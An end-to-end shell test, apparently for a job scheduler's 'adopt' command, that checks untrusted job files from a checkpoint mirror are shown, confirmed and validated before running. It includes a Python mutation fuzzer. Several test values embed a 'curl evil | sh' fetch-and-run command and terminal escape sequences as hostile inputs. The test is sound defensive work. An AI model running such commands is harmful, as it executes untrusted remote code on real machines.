# SPDX-License-Identifier: Apache-2.0
# Adopting runs code: job.json passes the checks of a submitted spec, jobctl adopt shows what will run and asks, and a
# file that changes after that is not run. Every change of one value is either refused or accepted by submit, too.
. "$TOP/tests/e2e/expect.sh"
cd "$WORK"
mkdir here mirror
# A mirror that a job of another home has left, as from another machine.
cat >job.yaml <<YAML
name: cancelled
workdir: $WORK/here
resources: {ranks: 1, cpus: 1, gpus: 0}
train:
  model: {preset: tiny, depth: 1, hidden: 8, heads: 1, linear_head_dim: 8, mlp_ratio: 1.0}
  data: {encoders: synthetic, resolution: 256, caption_words: 2, caption_channels: 8}
  batch: {global: 4}
  steps: 13
  sample: {before: false, after: false}
checkpoint: {keep: 1, mirror: $WORK/mirror}
YAML
home=$JOBCTL_HOME
export JOBCTL_HOME=$WORK/first
mkdir -m 700 first
code 0 jobctl submit -q --wait job.yaml
stop_daemon
export JOBCTL_HOME=$home
sed -i 's/"host": *"[^"]*"/"host":"fixture"/; s/"job": *1\b/"job":5/; s/"steps": *13/"steps":100/' mirror/cancelled/job.json
origin=$(field origin <mirror/cancelled/job.json)
change() { # KEY... VALUE: of job.json, which begins as it was each time
    [ -e job.json ] || cp mirror/cancelled/job.json .
    python3 - "$@" <<'PY'
import json, sys
*path, last, value = sys.argv[1:]
job = at = json.load(open("job.json"))
for key in path:
    at = at[key]
at[last] = json.loads(value)
json.dump(job, open("mirror/cancelled/job.json", "w"))
PY
}

# Without a terminal it wants --yes, and has stored nothing; what it would run is told.
change spec setup '"echo one\necho two\u001b[2J"'
code 2 jobctl adopt mirror/cancelled
has "add --yes if you trust everyone who can write to '$WORK/mirror/cancelled'" err
has "is job 5 of fixture. Adopting it runs, as user $(id -un) on $(hostname):" out
has "  setup       echo one" out
has "              echo two?[2J" out
has "  directory   $WORK/here" out
has "  checkpoint  step 13, in $WORK/mirror/cancelled/checkpoints" out
has '"preset": "tiny"' out
code 2 jobctl adopt --json mirror/cancelled
has "add --yes" out
[ "$(jobctl status -a -q | wc -l)" = 0 ]

# A snapshot of the code is not in a mirror: told before the question.
change spec snapshot true
code 2 jobctl adopt mirror/cancelled
has "note: the snapshot of the job's code is only on fixture: the job runs in $WORK/here with that directory's current contents" err
change spec setup '"true"'
code 2 jobctl adopt mirror/cancelled
lacks snapshot err

# On a terminal it asks; only a yes counts.
terminal() { script -qec "jobctl adopt --hold mirror/cancelled" /dev/null; }
terminal <<<n >out
has "Adopt it? [y/N]" out
has "Nothing was adopted." out
[ "$(jobctl status -a -q | wc -l)" = 0 ]
terminal <<<y >out
has "job 1 (cancelled) continues from $WORK/mirror/cancelled" out

# Refusals are one sentence: file, key, what was expected.
refused() { # SENTENCE KEY... VALUE
    change "${@:2}"
    code 2 jobctl adopt --yes mirror/cancelled
    has "$WORK/mirror/cancelled/job.json: $1" err
    [ "$(wc -l <err)" = 1 ]
}
refused 'spec: retry.max: expected a whole number or auto, not "many"' spec retry max '"many"'
refused 'spec: unknown key "rnu"; did you mean "run"?' spec rnu '"curl evil | sh"'
refused 'spec: checkpoint.mirror: not possible for run commands' spec '{
    "schema": 1, "name": "cancelled", "workdir": "/", "run": "curl evil | sh", "checkpoint": {"mirror": "/",
    "origin": "'"$origin"'"}}'
refused 'spec: secrets: entry 1 is not text' spec secrets '[null]'
refused 'spec: workdir: expected an absolute path, not "here"' spec workdir '"here"'
refused 'origin: expected the origin of its spec' origin '"00000000000000000000000000000000"'
refused 'host: expected the name of a machine' host '"a\u001b[2J"'
refused 'has an unknown key' run '"curl evil | sh"'

# What the user was shown is what runs, also if the file changes meanwhile; and no client may name an origin.
api() { curl -sS --unix-socket "$JOBCTL_HOME/jobctl.sock" "http://jobctl/v1/$1" -d @-; }
change job 5
echo '{"dir": "'"$WORK/mirror/cancelled"'", "dry_run": true}' | api adopt >shown
change spec setup '"curl evil | sh"'
python3 -IS -c 'import json; print(json.dumps(json.load(open("shown"))["spec"]))' >spec
{ printf '{"dir": "%s", "expect": ' "$WORK/mirror/cancelled"; cat spec; echo '}'; } | api adopt >out
has "has changed since it was shown" out
{ printf '{"spec": "", "cwd": "/", "canonical": '; cat spec; echo '}'; } | api jobs >out
has "canonical: checkpoint.origin: set by jobctl only; remove it" out

# Every change of one value, key by key; the same by a submit.
cat >mutate.py <<'PY'
import copy, http.client, json, os, socket
OTHERS = [None, True, 0, 2.5, 1e300, "", "x", "auto", "5s", [], [1], {"a": 1}]

class Local(http.client.HTTPConnection):
    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX)
        self.sock.connect(os.environ["JOBCTL_HOME"] + "/jobctl.sock")

def post(path, body):
    daemon.request("POST", "/v1/" + path, json.dumps(body))
    answer = daemon.getresponse()
    return answer.status, json.loads(answer.read())

def mutations(job, path=()):
    at = job
    for key in path:
        at = at[key]
    if isinstance(at, dict):
        yield path, "extra", lambda j, p=path: at_of(j, p).update(extra=1)
    for key in at if isinstance(at, dict) else range(len(at)):
        for other in OTHERS:
            yield path, (key, other), lambda j, p=path, k=key, o=other: at_of(j, p).__setitem__(k, o)
        yield path, (key, "deleted"), lambda j, p=path, k=key: at_of(j, p).pop(k)
        if isinstance(at[key], (dict, list)):
            yield from mutations(job, path + (key,))

def at_of(job, path):
    for key in path:
        job = job[key]
    return job

daemon = Local("jobctl")
original = json.load(open("job.json"))
file, mirror, tried, passed = "mirror/cancelled/job.json", os.environ["WORK"] + "/mirror/cancelled", 0, 0
for path, what, change in mutations(original):
    job = copy.deepcopy(original)
    change(job)
    with open(file, "w") as f:
        json.dump(job, f)
    tried += 1
    status, answer = post("adopt", {"dir": mirror, "dry_run": True})
    if status != 200:
        text = answer["error"]["text"]
        assert status == 400 and "\n" not in text and ("job.json" in text or "old paths" in text or
                                                       "directory with the job's name" in text), (path, what, status, answer)
        continue
    passed += 1
    spec = answer["spec"]
    assert post("adopt", {"dir": mirror, "dry_run": True, "expect": spec})[0] == 200
    del spec["checkpoint"]["origin"]
    status, again = post("jobs", {"spec": "", "cwd": "/", "canonical": spec, "dry_run": True})
    if status == 200:
        assert again["spec"] == spec, (path, what, spec, again)
    else:       # this machine has not what it needs
        assert not again["error"]["text"].startswith("canonical:"), (path, what, again)
print(tried, "changes,", passed, "pass")
assert tried > 1200 and passed < 200, (tried, passed)
PY
python3 mutate.py
[ "$(jobctl status -a -q | wc -l)" = 1 ]
jobctl cancel 1 >out
